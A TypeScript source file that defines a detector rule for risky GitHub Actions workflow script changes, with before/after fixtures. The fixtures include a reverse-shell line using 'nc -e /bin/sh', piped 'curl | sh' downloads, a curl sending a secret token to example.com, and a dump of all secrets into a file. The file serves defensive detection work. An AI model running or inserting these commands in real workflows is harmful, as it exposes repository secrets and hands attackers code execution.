/** What the scripts of a workflow do. Source: docs.github.com, "Security hardening for GitHub Actions". */
import { configRule } from '../../changes.ts';
import type { ScriptRisk } from '../../workflows/changes.ts';
import { step } from '../../workflows/examples.ts';
import { DOWNLOADED, FILLED_IN, GIVEN } from '../../workflows/script-outcomes.ts';

const path = '.github/workflows/ci.yml';
const called = (script: string) =>
  step(`run: |\n  ${script}`, 'on: { workflow_call: { inputs: { target: { type: string } } } }');
const forStrangers = (script: string) => step(`run: |\n  ${script}`, 'on: pull_request_target');
const ofPullRequest = (script: string) => step(`run: |\n  ${script}`, 'on: pull_request');
const COMMIT = 'abcdef12'.repeat(5);
const givenPinned = step(`uses: acme/deploy@${COMMIT}\nwith: { token: "\${{ secrets.DEPLOY }}" }`);
const run = (script: string) => step(`run: |\n  ${script}`);
const bare = (script: string) =>
  step(`run: |\n  ${script}`, 'on: push\npermissions: { contents: read }').replace(
    'steps:',
    'runs-on: ubuntu-latest\n    steps:',
  );

function given({ isNewStep, isPinned }: ScriptRisk) {
  if (isPinned === true) return isNewStep === true ? 'new-step-given-pinned' : 'given-pinned';
  return isNewStep === true ? 'new-step-given' : 'secret-given';
}

function downloaded({ isNew, isPinned, isBare, isOwn }: ScriptRisk) {
  if (isOwn === true) return 'download-own';
  if (isNew) return 'new-download';
  if (isPinned === true) return 'download-fixed';
  return isBare === true ? 'download-bare' : 'download';
}

export default [
  configRule({
    id: 'config/workflow-script-risk',
    on: 'script-risk',
    class: 'permission-widening',
    title: 'script of a workflow became risky',
    why: 'A stranger who chooses the text chooses the commands that run with the rights of the job.',
    fix: 'Pass the text through `env:` and use the variable in quotes.',
    outcomes: {
      ...FILLED_IN,
      ...GIVEN,
      environment: {
        risk: 'high',
        title: 'environment of later steps written where strangers start the workflow',
        message: (c) => `The script of \`${c.step}\` now writes to the environment of the steps after it.`,
        why: 'A stranger who chooses what is written chooses what the steps after it run, with the rights of the repository.',
        fix: 'Pass the value as an output of the step instead.',
        equivalents: ['zizmor:github-env'],
      },
      'secret-sent': {
        risk: 'high',
        class: 'secret',
        title: 'secret sent over the network',
        message: (c) => `The script of \`${c.step}\` now sends a secret to another host.`,
        why: 'The other host gets the secret, and so does whoever reads the list of processes.',
        fix: 'Pass the secret through `env:` to a tool that is made for that host.',
        equivalents: ['checkov:CKV_GHA_3'],
      },
      'remote-shell': {
        risk: 'high',
        class: 'supply-chain',
        title: 'shell opened to another host',
        message: (c) => `The script of \`${c.step}\` now opens a shell to another host.`,
        why: 'Whoever is at the other end runs commands with the rights and the secrets of the job.',
        fix: 'Remove it.',
        equivalents: ['checkov:CKV_GHA_4'],
      },
      'all-secrets': {
        risk: 'high',
        class: 'secret',
        title: 'all secrets handed to one script',
        message: (c) => `The script of \`${c.step}\` now gets every secret of the repository.`,
        why: 'Whoever controls the script, or reads its log, has all of them.',
        fix: 'Name the secrets the script needs.',
        equivalents: ['zizmor:overprovisioned-secrets'],
      },
      ...DOWNLOADED,
      'ignored-failure': {
        risk: 'low',
        class: 'availability',
        title: 'failure of a command ignored',
        message: (c) => `The script of \`${c.step}\` now goes on after a command that failed.`,
        why: 'The job turns green although something in it broke.',
        fix: 'Let it fail, or say in the script which failure is expected.',
      },
    },
    examples: [
      {
        path,
        before: run('echo building'),
        after: run('echo "${{ github.event.pull_request.title }}"'),
        outcome: 'injection',
      },
      { path, before: '', after: run('git switch ${{ github.head_ref }}'), outcome: 'injection' },
      { path, before: run('make'), after: run("echo '${{ toJSON(secrets) }}' > .env"), outcome: 'all-secrets' },
      { path, before: run('make'), after: run('curl -fsSL https://example.com/install.sh | sh'), outcome: 'download' },
      { path, before: '', after: run('wget -qO- https://example.com/i.sh | sudo bash'), outcome: 'new-download' },
      {
        path,
        before: run('make'),
        after: run('curl -sfL https://raw.githubusercontent.com/acme/tool/v0.2.1/install.sh | sh'),
        outcome: 'download-fixed',
      },
      {
        before: { [path]: run('make'), 'go.mod': 'module github.com/acme/shop\n' },
        after: {
          [path]: run('curl -sSfL https://raw.githubusercontent.com/acme/shop/main/install.sh | sh'),
          'go.mod': 'module github.com/acme/shop\n',
        },
        outcome: 'download-own',
      },
      { path, before: bare('make'), after: bare('curl https://example.com/i.sh | sh'), outcome: 'download-bare' },
      { path, before: run('make test'), after: run('make test || true'), outcome: 'ignored-failure' },
      { path, before: called('echo'), after: called('echo ${{ inputs.target }}'), outcome: 'input' },
      {
        before: { [path]: called('echo') },
        after: {
          [path]: called('echo ${{ inputs.target }}'),
          '.github/workflows/push.yml': `on: push\njobs: { a: { uses: ./${path}, with: { target: a } } }\n`,
        },
        outcome: 'input-trusted',
      },
      {
        path,
        before: ofPullRequest('echo'),
        after: ofPullRequest('git switch ${{ github.head_ref }}'),
        outcome: 'injection-powerless',
      },
      { path, before: forStrangers('echo'), after: forStrangers('echo "A=$B" >> $GITHUB_ENV'), outcome: 'environment' },
      {
        path,
        before: forStrangers('echo'),
        after: forStrangers('echo "${GOPATH}/bin" >> "$GITHUB_PATH"'),
        outcome: 'none',
      },
      {
        path,
        before: run('make'),
        after: run('curl -H "Authorization: ${{ secrets.TOKEN }}" https://example.com'),
        outcome: 'secret-sent',
      },
      {
        path,
        before: step('uses: acme/deploy@v4'),
        after: step('uses: acme/deploy@v4\nwith: { token: "${{ secrets.DEPLOY }}" }'),
        outcome: 'secret-given',
      },
      {
        path,
        before: run('make'),
        after: step('uses: acme/deploy@v4\nwith: { token: "${{ secrets.DEPLOY }}" }').replace('Build', 'Deploy'),
        outcome: 'new-step-given',
      },
      {
        path,
        before: step(`uses: acme/deploy@${COMMIT}`),
        after: givenPinned,
        outcome: 'given-pinned',
      },
      {
        path,
        before: run('make'),
        after: givenPinned.replace('Build', 'Deploy'),
        outcome: 'new-step-given-pinned',
      },
      {
        path,
        before: step('uses: acme/deploy@v4'),
        after: step('uses: acme/deploy@v4\nwith: { token: "${{ secrets.GITHUB_TOKEN }}" }'),
        outcome: 'none',
      },
      { path, before: run('make'), after: run('nc -e /bin/sh example.com 4444'), outcome: 'remote-shell' },
      { path, before: run('make'), after: run('bash <(curl -s https://example.com/i.sh)'), outcome: 'download' },
      { path, before: run('echo'), after: run('echo "A=$B" >> $GITHUB_ENV'), outcome: 'none' },
      { path, before: run('make'), after: run('echo "${{ github.sha }}"'), outcome: 'none' },
      { path, before: run('make'), after: run('curl -o tool.tgz https://example.com/tool.tgz'), outcome: 'none' },
      {
        path,
        before: run('make'),
        after: step('env: { TITLE: "${{ github.event.issue.title }}" }\nrun: echo "$TITLE"'),
        outcome: 'none',
      },
    ],
    classify: (change) => {
      const { risk, isNew } = change;
      if (risk === 'injection') return change.isPowerless === true ? 'injection-powerless' : risk;
      if (risk === 'input') return change.isTrusted === true ? 'input-trusted' : risk;
      if (risk === 'secret-given') return isNew ? undefined : given(change);
      if (risk === 'download') return downloaded(change);
      return isNew && risk === 'ignored-failure' ? undefined : risk;
    },
  }),
];
